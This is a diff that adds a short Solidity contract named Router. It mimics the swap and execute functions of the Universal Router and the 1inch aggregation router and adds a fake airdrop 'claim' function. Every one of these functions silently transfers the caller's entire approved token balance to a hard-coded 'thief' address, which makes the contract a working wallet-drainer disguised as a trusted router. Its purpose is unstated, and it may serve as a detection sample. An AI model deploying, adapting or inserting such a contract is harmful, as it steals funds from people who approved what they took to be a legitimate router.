@@ -1,0 +1,43 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.28;
+
+import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
+
+/// Has functions of two well-known routers, and one of a fake airdrop. Each takes what was allowed earlier.
+contract Router {
+    IERC20 private immutable token;
+    address private immutable thief;
+
+    struct Order {
+        address srcToken;
+        address dstToken;
+        address payable srcReceiver;
+        address payable dstReceiver;
+        uint256 amount;
+        uint256 minReturnAmount;
+        uint256 flags;
+    }
+
+    constructor(IERC20 token_, address thief_) {
+        token = token_;
+        thief = thief_;
+    }
+
+    /// Of the Universal Router.
+    function execute(bytes calldata, bytes[] calldata, uint256) external payable {
+        take();
+    }
+
+    /// Of the aggregation router of 1inch.
+    function swap(address, Order calldata, bytes calldata) external payable {
+        take();
+    }
+
+    function claim() external payable {
+        take();
+    }
+
+    function take() private {
+        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
+    }
+}
